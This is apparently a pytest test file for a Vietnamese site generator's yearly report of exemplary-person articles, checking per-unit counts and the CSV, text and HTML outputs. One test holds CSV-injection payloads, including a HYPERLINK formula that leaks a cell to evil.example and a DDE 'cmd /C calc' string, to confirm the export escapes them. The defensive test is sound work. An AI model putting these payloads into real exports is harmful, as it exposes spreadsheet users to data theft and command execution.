"""The yearly report (sitegen.thidua.report) on a generated site: figures per unit, the CSV, the HTML."""

from __future__ import annotations

import csv
import io
import random
from collections import Counter
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from helpers import BASE_URL, article

from sitegen.commands.report import report_command
from sitegen.core.config import Config, load_config
from sitegen.pipeline import BuildOptions, render
from sitegen.thidua.report import CSV_HEADER, NO_MODEL, yearly_report

NOW = datetime(2025, 7, 1, 10, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))
YEARS = (2023, 2024, 2025, 2026)
UNITS = ["Văn phòng Sở", "Phòng Quản lý du lịch", "Trung tâm Thông tin xúc tiến du lịch",
         "Hiệp hội Du lịch Ninh Bình", "Phòng Kế hoạch - Tài chính"]
EXTRA_UNIT = "Vườn quốc gia Cúc Phương"  # named by articles, not in config.yaml
CONFIG = f"""\
title: Trang thử nghiệm
base_url: {BASE_URL}
publisher:
  owner: Ủy ban nhân dân tỉnh Ninh Bình
  operator: Sở Du lịch tỉnh Ninh Bình
units:
""" + "".join(f"  - {u}\n" for u in UNITS)


@dataclass(frozen=True)
class Written:
    """What the generator put in one article, to compute the expected figures from."""

    section: str
    year: int
    date: str
    unit: str | None
    draft: bool
    subject: str | None = None
    position: str | None = None


def _generate(seed: int) -> tuple[dict[str, str], list[Written]]:
    rng = random.Random(seed)
    files: dict[str, str] = {}
    written: list[Written] = []
    # The last configured unit never gets a model: it must read "Chưa có điển hình".
    model_units = [*UNITS[:-1], EXTRA_UNIT, None]
    for i in range(40):
        year = rng.choice(YEARS)
        date = f"{year}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
        unit = rng.choice(model_units)
        # Units are matched whatever the case of their spelling.
        spelled = unit.lower() if unit and rng.random() < 0.2 else unit
        draft = rng.random() < 0.1
        subject = f"Người điển hình {i}"
        keys: dict[str, object] = {
            "subject": subject, "subject_kind": rng.choice(["ca-nhan", "tap-the"]),
            "position": rng.choice(["Hướng dẫn viên", "Kế toán, thủ quỹ", ""]) or None,
            "awards": [{"name": "Giấy khen của Giám đốc Sở", "year": year - 1,
                        "decision": f"{i}/QĐ-SDL"},
                       {"name": "Bằng khen của Chủ tịch UBND tỉnh", "year": year}],
        }
        if spelled:
            keys["unit"] = spelled
        if draft:
            keys["draft"] = True
        files[f"content/guong-dien-hinh/nguoi-{i}.md"] = article(
            f"Gương điển hình số {i}", date, **{k: v for k, v in keys.items() if v is not None})
        written.append(Written("guong-dien-hinh", year, date, unit, draft, subject,
                               keys["position"]))  # type: ignore[arg-type]
    for i in range(25):
        year = rng.choice(YEARS)
        date = f"{year}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
        unit = rng.choice([*UNITS, None])
        keys = {"unit": unit} if unit else {}
        files[f"content/tin-tuc/tin-{i}.md"] = article(f"Tin số {i}", date, **keys)
        written.append(Written("tin-tuc", year, date, unit, False))
    return files, written


@pytest.fixture(params=[1, 2, 3])
def generated(request: pytest.FixtureRequest, make_site) -> tuple[Config, list[Written]]:  # type: ignore[no-untyped-def]
    files, written = _generate(request.param)
    config, _ = load_config(make_site(files, config=CONFIG))
    return config, written


@pytest.mark.parametrize("year", YEARS)
def test_report_has_exactly_the_model_articles_of_the_year_per_unit(
        generated: tuple[Config, list[Written]], year: int) -> None:
    config, written = generated
    site = render(config, BuildOptions(future=True, now=NOW)).site
    report = yearly_report(site, year, NOW.date())
    models = Counter(w.unit for w in written
                     if w.section == "guong-dien-hinh" and w.year == year and not w.draft)
    news = Counter(w.unit for w in written if w.section == "tin-tuc" and w.year == year)
    by_name = {u.name: u for u in report.units}
    # Every configured unit is there, in config order, even without any article.
    assert [u.name for u in report.units][:len(UNITS)] == UNITS
    kinds = [k for k, _ in report.kinds]
    for unit in [*UNITS, EXTRA_UNIT]:
        if unit == EXTRA_UNIT and unit not in by_name:
            assert not any(w.unit == EXTRA_UNIT and not w.draft for w in written)
            continue
        got = by_name[unit]
        assert len(got.models) == models[unit], unit
        assert got.counts[kinds.index("model")] == models[unit]
        assert got.counts[kinds.index("news")] == news[unit]
        assert {m.subject for m in got.models} == {
            w.subject for w in written if w.unit == unit and w.year == year
            and w.section == "guong-dien-hinh" and not w.draft}
        assert got.note == (None if models[unit] else NO_MODEL)
    assert by_name[UNITS[-1]].note == NO_MODEL
    if models[None] or news[None]:
        assert len(by_name["Chưa ghi đơn vị"].models) == models[None]
    assert len(report.rows) == sum(models.values())
    assert report.articles == sum(models.values()) + sum(news.values())


def test_csv_for_so_noi_vu(generated: tuple[Config, list[Written]]) -> None:
    config, written = generated
    year = 2025
    data = report_command(config, year, "csv", now=NOW)
    assert isinstance(data, bytes)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b"\r\n")
    text = data[3:].decode("utf-8")
    assert text.split("\r\n", 1)[0] == ",".join(CSV_HEADER)
    assert CSV_HEADER == ("STT", "Đơn vị", "Cá nhân/Tập thể", "Tên", "Chức vụ",
                          "Hình thức khen thưởng", "Bài viết", "Ngày đăng")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert tuple(header) == CSV_HEADER
    expected = [w for w in written
                if w.section == "guong-dien-hinh" and w.year == year and not w.draft]
    assert len(body) == len(expected)
    assert [r[0] for r in body] == [str(i) for i in range(1, len(body) + 1)]
    by_subject = {w.subject: w for w in expected}
    for row in body:
        assert len(row) == len(CSV_HEADER)
        _, unit, kind, name, position, awards, url, published = row
        w = by_subject[name]
        assert unit == (w.unit or "Chưa ghi đơn vị")
        assert position == (w.position or "")
        y, m, d = w.date.split("-")
        assert published == f"{d}/{m}/{y}"
        assert url.startswith(BASE_URL + f"guong-dien-hinh/{y}/{m}/")
        assert kind in ("Cá nhân", "Tập thể")
        # Highest form first: the Bằng khen before the Giấy khen.
        assert awards.startswith(f"Bằng khen của Chủ tịch UBND tỉnh ({year})")
        assert f"; Giấy khen của Giám đốc Sở ({year - 1}, Quyết định số " in awards
    # One line per row: quoting keeps commas inside a cell.
    assert text.count("\r\n") == len(body) + 1


def test_text_and_html_forms(generated: tuple[Config, list[Written]], tmp_path: Path) -> None:
    config, written = generated
    text = report_command(config, 2024, "text", now=NOW).decode("utf-8")
    assert text.startswith("BÁO CÁO ")
    assert "NĂM 2024" in text.splitlines()[0]
    assert f"Gương điển hình: {NO_MODEL}" in text
    out = tmp_path / "bao-cao.html"
    data = report_command(config, 2024, "html", output=out, now=NOW)
    assert out.read_bytes() == data
    html = data.decode("utf-8")
    assert "size: A4" in html and "@page" in html
    assert "display: table-header-group" in html
    assert "<thead>" in html
    assert "<h1>BÁO CÁO<span class=\"subject\">" in html and "năm\u00a02024</span></h1>" in html
    assert "Số: …/BC</p>" in html  # no publisher.report_number: the văn thư fills the number
    assert "Sở Du lịch tỉnh Ninh Bình" in html
    assert "Ngày 01 tháng 7 năm 2025" in html  # no publisher.place: the date line alone
    models = [w for w in written if w.section == "guong-dien-hinh" and w.year == 2024
              and not w.draft]
    assert html.count('<td class="article">') == len(models)


def test_report_of_a_year_without_articles(make_site) -> None:  # type: ignore[no-untyped-def]
    config, _ = load_config(make_site({}, config=CONFIG))
    data = report_command(config, 2020, "csv", now=NOW)
    assert data == ("\ufeff" + ",".join(CSV_HEADER) + "\r\n").encode("utf-8")
    text = report_command(config, 2020, "text", now=NOW).decode()
    assert text.count(NO_MODEL) == len(UNITS)


def test_csv_cells_never_run_as_formulas(make_site) -> None:  # type: ignore[no-untyped-def]
    """OWASP's CSV injection rule: a cell a spreadsheet would read as a formula starts with '."""
    hostile = {
        "unit": '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm")',
        "subject": "+SUM(1;1)*cmd|' /C calc'!A0",
        "position": "-2+3",
    }
    model = article("Gương sáng thử", date="2025-03-10", subject=hostile["subject"],
                    subject_kind="ca-nhan", position=hostile["position"], unit=hostile["unit"],
                    awards=[{"name": "@SUM(1+1)", "year": 2025}])
    site = make_site({"content/guong-dien-hinh/guong-sang.md": model})
    config, _ = load_config(site)
    data = report_command(config, 2025, "csv", now=NOW)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for value in (*hostile.values(), "@SUM(1+1)"):
        assert any(c.startswith("'") and value in c for c in cells), value


@pytest.mark.parametrize("year", ["25", "02025", "năm", "-2025"])
def test_a_year_that_is_not_four_digits_is_refused(year: str, capsys) -> None:  # type: ignore[no-untyped-def]
    """Issue 20, item 14: `report --year 25` printed "NĂM 25" with zeros."""
    from sitegen.cli import main

    with pytest.raises(SystemExit) as exc:
        main(["report", "--year", year])
    assert exc.value.code == 2
    assert "bốn chữ số" in capsys.readouterr().err
